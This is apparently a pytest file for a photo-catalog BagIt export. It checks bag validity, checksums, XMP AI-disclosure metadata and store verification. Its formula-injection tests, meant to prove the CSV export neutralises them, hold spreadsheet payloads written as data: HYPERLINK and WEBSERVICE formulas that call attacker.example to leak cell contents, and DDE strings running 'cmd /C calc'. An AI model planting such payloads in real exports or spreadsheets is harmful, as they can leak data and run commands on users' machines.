"""BagIt export: validates with bagit, checksums match the store, XMP disclosure reads back."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import bagit
import numpy as np
import pytest
from PIL import Image

import db
from db.catalog import Catalog
from db.errors import InvalidInput, StoreError
from db.xmp import DIGITAL_SOURCE_TYPE

WEIGHTS = "ab" * 32
HINTS = {"points": [{"x": 5, "y": 6, "color": "#a03020", "reference": "Column red"}]}


@pytest.fixture
def approved(catalog: Catalog, catalog_users, make_scan, make_colorized) -> dict[str, int]:  # type: ignore[no-untyped-def]
    """Photo 'war' with an approved (and a superseded) colorization, 'ceremony' approved, 'draft' pending."""
    curator, reviewer = catalog_users["curator"], catalog_users["reviewer"]
    ids: dict[str, int] = {}
    with catalog.session() as session:
        db.add_reference_color(session=session, actor=curator, name="Column red", hex="#a03020",
                               citation="Palace survey 1950, plate 12")
        for seed, (key, era, event) in enumerate(
            (("war", "Korean War", "War"), ("ceremony", "Japanese occupation", "Ceremony"), ("draft", "Korean War", "War"))
        ):
            outcome = db.import_bytes(
                session=session, store=catalog.store, settings=catalog.settings, actor=curator, filename=f"{key}.png",
                data=make_scan(seed), metadata={"title": f"Photo {key}", "era": era, "event": event,
                                                "identifier": f"ACC/{seed}", "rights": "Public domain"},
            )
            ids[key] = outcome.photo_id
        for key, colors in (("war", [(20, 90, 40), (160, 48, 32)]), ("ceremony", [(200, 180, 40)]), ("draft", [(1, 2, 3)])):
            for color in colors:
                candidate = db.create_colorization(
                    session=session, store=catalog.store, settings=catalog.settings, actor=curator,
                    photo_id=ids[key], hints=HINTS, engine="neural", output_png=make_colorized(48, 32, color),
                    model_name="findcolor-hintnet", model_version="1.0", weights_sha256=WEIGHTS,
                    parameters={"working_side": 768}, provenance_note=f"{key}: colours from the 1950 palace survey",
                )
                if key != "draft":
                    db.approve_colorization(session=session, settings=catalog.settings, actor=reviewer,
                                            colorization_id=candidate.id, note="checked against plate 12")
                ids[f"{key}_colorization"] = candidate.id
    return ids


def _export(catalog: Catalog, out: Path, **kwargs) -> db.ExportReport:  # type: ignore[no-untyped-def]
    with catalog.read_session() as session:
        return db.export_bag(session=session, store=catalog.store, out_path=out, **kwargs)


def test_export_is_a_valid_bag_matching_the_store(catalog: Catalog, approved: dict[str, int], tmp_path: Path) -> None:
    report = _export(catalog, tmp_path / "out" / "export.zip")
    assert report.photos == 2 and report.path.is_file()
    with zipfile.ZipFile(report.path) as archive:
        archive.extractall(tmp_path / "unzipped")
    (bag_dir,) = list((tmp_path / "unzipped").iterdir())
    bag = bagit.Bag(str(bag_dir))
    bag.validate()  # raises on any problem
    manifest = {path: digests["sha256"] for path, digests in bag.entries.items() if path.startswith("data/")}

    document = json.loads((bag_dir / "data" / "metadata.json").read_text(encoding="utf-8"))
    records = {record["photo"]["title"]: record for record in document["photos"]}
    assert set(records) == {"Photo war", "Photo ceremony"}
    with catalog.read_session() as session:
        for key in ("war", "ceremony"):
            photo = db.get_photo(session=session, photo_id=approved[key])
            colorization = db.get_approved_colorization(session=session, photo_id=photo.id)
            record = records[photo.title]
            original = record["files"]["original"]
            # the original is byte-for-byte the stored scan
            assert manifest[original["path"]] == original["sha256"] == photo.sha256
            assert (bag_dir / original["path"]).read_bytes() == catalog.store.read_bytes(photo.sha256)
            colorized = record["files"]["colorized"]
            assert manifest[colorized["path"]] == colorized["sha256"]
            assert colorized["stored_output_sha256"] == colorization.output_sha256
            exported = (bag_dir / colorized["path"]).read_bytes()
            with Image.open(io.BytesIO(exported)) as image, Image.open(catalog.store.path(colorization.output_sha256)) as stored:
                assert np.array_equal(np.asarray(image), np.asarray(stored))  # pixels untouched by the XMP
            assert record["colorization"]["id"] == colorization.id
            assert record["colorization"]["hints"] == colorization.hints
            assert record["colorization"]["weights_sha256"] == WEIGHTS
            assert record["colorization"]["curator"] == "curator" and record["colorization"]["reviewer"] == "reviewer"
            assert record["colorization"]["review_note"] == "checked against plate 12"
            assert record["colorization"]["reference_colors"][0]["citation"] == "Palace survey 1950, plate 12"
            assert record["photo"]["era"] == photo.era_name and record["photo"]["rights"] == "Public domain"

            # XMP disclosure, read with our reader ...
            fields = db.read_xmp(exported)
            assert fields["DigitalSourceType"] == DIGITAL_SOURCE_TYPE
            assert fields["AISystemUsed"] == "Find Color (neural engine)"
            assert "findcolor-hintnet 1.0" in fields["AISystemVersionUsed"] and WEIGHTS in fields["AISystemVersionUsed"]
            assert colorization.provenance_note in fields["description"]
            assert photo.sha256 in fields["source"] and photo.identifier in fields["source"]
            assert fields["creator"] == "curator; reviewer"
            # ... and independently with Pillow's PNG parser and ElementTree
            with Image.open(io.BytesIO(exported)) as image:
                packet = image.info["XML:com.adobe.xmp"]
            root = ET.fromstring(packet[packet.index("<x:xmpmeta"): packet.rindex("</x:xmpmeta>") + 12])
            description = root.find(".//{http://www.w3.org/1999/02/22-rdf-syntax-ns#}Description")
            assert description.get("{http://iptc.org/std/Iptc4xmpExt/2008-02-29/}DigitalSourceType") == DIGITAL_SOURCE_TYPE

    with open(bag_dir / "data" / "metadata.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 2
    for row in rows:
        assert manifest[row["original_path"]] == row["original_sha256"]
        assert manifest[row["colorized_path"]] == row["colorized_sha256"]
        assert json.loads(row["hints"]) == records[row["title"]]["colorization"]["hints"]
        assert row["model_name"] == "findcolor-hintnet" and row["reviewer"] == "reviewer"
    assert "Bag-Software-Agent" in bag.info


def test_export_filters_by_era_and_event(catalog: Catalog, approved: dict[str, int], tmp_path: Path) -> None:
    report = _export(catalog, tmp_path / "war.zip", era="Korean War", event="War")
    assert report.photos == 1
    with pytest.raises(InvalidInput, match="nothing to export"):
        _export(catalog, tmp_path / "none.zip", era="Korean Empire")
    assert not (tmp_path / "none.zip").exists()
    with pytest.raises(InvalidInput, match=".zip"):
        _export(catalog, tmp_path / "war.tar", era="Korean War")


def test_export_refuses_an_altered_original_and_leaves_nothing(catalog: Catalog, approved: dict[str, int], tmp_path: Path) -> None:
    with catalog.read_session() as session:
        sha = db.get_photo(session=session, photo_id=approved["ceremony"]).sha256
    path = catalog.store.path(sha)
    os.chmod(path, 0o644)
    path.write_bytes(path.read_bytes() + b"tampered")
    out = tmp_path / "export.zip"
    with pytest.raises(StoreError, match="verify"):
        _export(catalog, out)
    assert list(tmp_path.glob("*.zip")) == [] and list(tmp_path.glob(".findcolor-export-*")) == []


def test_verify_reports_missing_and_altered_files(catalog: Catalog, approved: dict[str, int]) -> None:
    with catalog.read_session() as session:
        assert db.verify_store(session=session, store=catalog.store).ok
        original = db.get_photo(session=session, photo_id=approved["war"]).sha256
        output = db.get_colorization(session=session, colorization_id=approved["ceremony_colorization"]).output_sha256
    os.chmod(catalog.store.path(original), 0o644)
    catalog.store.path(original).write_bytes(b"bit rot")
    catalog.store.path(output).unlink()
    orphan = catalog.store.put_bytes(b"left by an interrupted import")
    with catalog.read_session() as session:
        report = db.verify_store(session=session, store=catalog.store)
    assert not report.ok
    assert [(p.kind, p.record_id) for p in report.altered] == [("original", approved["war"])]
    assert [(p.kind, p.record_id) for p in report.missing] == [("colorization", approved["ceremony_colorization"])]
    assert report.unreferenced == [orphan]
    assert report.checked == 3 + 4  # three originals, four colorization outputs
    assert hashlib.sha256(b"bit rot").hexdigest() != original


FORMULAS = {  # metadata field -> text a spreadsheet would run as a formula
    "title": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full scan")',
    "description": "@cmd|' /C calc'!A0",
    "place": "+1+cmd|' /C calc'!A0",
    "source": "-2+3+cmd|' /C calc'!A0",
    "rights": "=1+1",
    "date_text": "@SUM(1+1)",
}
CSV_COLUMN = {"date_text": "date"}


def test_metadata_csv_neutralises_formulas_and_json_keeps_the_exact_text(
    catalog: Catalog, catalog_users, make_scan, make_colorized, tmp_path: Path  # type: ignore[no-untyped-def]
) -> None:
    curator, reviewer = catalog_users["curator"], catalog_users["reviewer"]
    note, review_note = '=WEBSERVICE("http://attacker.example/")', "-1+cmd|' /C calc'!A0"
    with catalog.session() as session:
        outcome = db.import_bytes(
            session=session, store=catalog.store, settings=catalog.settings, actor=curator, filename="evil.png",
            data=make_scan(7), metadata={**FORMULAS, "identifier": "ACC-7"},
        )  # fmt: skip
        assert outcome.status == "imported", outcome.message
        candidate = db.create_colorization(
            session=session, store=catalog.store, settings=catalog.settings, actor=curator, photo_id=outcome.photo_id,
            hints={"points": [{"x": 5, "y": 6, "color": "#a03020"}]}, engine="classical",
            output_png=make_colorized(48, 32, (20, 90, 40)), provenance_note=note,
        )  # fmt: skip
        db.approve_colorization(
            session=session, settings=catalog.settings, actor=reviewer, colorization_id=candidate.id, note=review_note
        )
    report = _export(catalog, tmp_path / "export.zip")
    with zipfile.ZipFile(report.path) as archive:
        (csv_name,) = [name for name in archive.namelist() if name.endswith("data/metadata.csv")]
        (json_name,) = [name for name in archive.namelist() if name.endswith("data/metadata.json")]
        (row,) = list(csv.DictReader(io.StringIO(archive.read(csv_name).decode("utf-8"), newline="")))
        (record,) = json.loads(archive.read(json_name))["photos"]
    for field, text in FORMULAS.items():
        column = CSV_COLUMN.get(field, field)
        assert row[column] == "'" + text, column  # a spreadsheet shows it as text and never runs it
        assert record["photo"][column] == text  # metadata.json is unchanged: the exact values
    assert row["provenance_note"] == "'" + note and record["colorization"]["provenance_note"] == note
    assert row["review_note"] == "'" + review_note and record["colorization"]["review_note"] == review_note
    assert row["identifier"] == "ACC-7" and row["photo_id"] == str(record["photo"]["id"])  # other cells as they were
    assert json.loads(row["hints"]) == record["colorization"]["hints"]


@pytest.mark.parametrize(
    "value,cell",
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("plain", "plain"), (" =1", " =1"), ("", ""), (1950, 1950), (-3, -3), (None, None)],
)
def test_csv_safe_follows_owasp(value, cell) -> None:  # type: ignore[no-untyped-def]
    from db.export import csv_safe

    assert csv_safe(value) == cell
